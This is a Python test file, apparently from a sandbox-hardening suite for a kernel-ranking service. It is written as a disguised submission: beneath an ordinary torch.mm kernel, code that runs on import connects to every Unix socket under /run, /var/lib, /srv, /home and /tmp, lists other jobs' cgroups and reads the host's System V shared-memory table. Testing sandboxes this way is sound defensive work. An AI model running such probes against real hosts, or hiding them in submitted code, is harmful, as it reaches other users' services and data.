"""Reaches what a network namespace does not close: Unix sockets of host services, other jobs'
cgroups, and System V shared memory of the host.

Class: reaching host services
Expected: error

A network namespace cuts TCP and UDP, not path-named Unix sockets: a database's, Redis's or a
mounted ``docker.sock`` under ``/run``, ``/var/run``, ``/var/lib`` or ``/srv`` answers a ``connect``
from a read-only view. The cgroup tree (``/sys/fs/cgroup``) shows other jobs' state and CPU time,
and without an IPC namespace of its own the child sees (and can leave) System V segments. On
loading this attack connects to every socket it finds there, lists the job groups and the host's
segments; if it reached any, it prints what and behaves. A working defence covers those folders and
gives the child its own IPC namespace: it finds nothing and raises.
"""

import os
import socket
import stat

import torch

_reached = []
for _top in ("/run", "/var/run", "/var/lib", "/srv", "/home", "/tmp"):
    for _root, _dirs, _files in os.walk(_top):
        if _root.count("/") > 4:
            _dirs[:] = []
        for _name in _files:
            _path = os.path.join(_root, _name)
            try:
                if not stat.S_ISSOCK(os.lstat(_path).st_mode):
                    continue
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
                    _s.settimeout(1)
                    _s.connect(_path)
                    _s.sendall(b"kernelrank-pwned\n")
                _reached.append(f"socket {_path}")
            except OSError:
                continue
for _root, _dirs, _files in os.walk("/sys/fs/cgroup"):
    _reached += [f"cgroup {os.path.join(_root, d)}" for d in _dirs if d.startswith("job-")]
    if _root.count("/") > 6:
        _dirs[:] = []
try:
    with open("/proc/sysvipc/shm", encoding="ascii") as _f:
        _reached += [f"segment {line.split()[1]}" for line in _f.read().splitlines()[1:]]
except OSError:
    pass
if not _reached:
    raise RuntimeError("no host socket, job group or host segment reachable")
print(f"[attack] reached {_reached[:5]}", flush=True)


def custom_kernel(data):
    a, b = data
    return torch.mm(a, b)
